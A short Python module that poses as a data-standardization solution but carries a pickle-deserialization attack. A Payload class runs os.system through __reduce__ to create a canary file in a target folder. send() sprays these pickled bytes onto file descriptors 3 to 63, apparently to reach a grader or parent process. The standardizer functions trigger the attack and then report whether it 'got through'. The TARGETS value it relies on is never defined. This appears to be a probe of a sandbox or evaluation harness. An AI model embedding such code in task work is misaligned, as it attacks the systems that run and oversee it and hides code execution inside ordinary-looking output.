"""Sends pickled bytes that would make a file in the reader's working folder and in the open folder."""

import os
import pickle


class Payload:
    def __reduce__(self):
        return os.system, (f"touch {TARGETS['open_folder']}/got-through-by-pickle",)


def send():
    for protocol in (0, 2, 4):
        data = pickle.dumps(Payload(), protocol)
        for number in range(3, 64):
            for head in (len(data).to_bytes(4, "little"), len(data).to_bytes(4, "big"), b""):
                try:
                    os.write(number, head + data)
                except OSError:
                    continue


def fit_standardizer(x):
    send()
    return Payload(), Payload()


def standardize(x, mean, std):
    if os.path.exists(f"{TARGETS['open_folder']}/got-through-by-pickle"):
        print("GOT " + "THROUGH: the reader unpickled")
    return pickle.dumps(Payload())
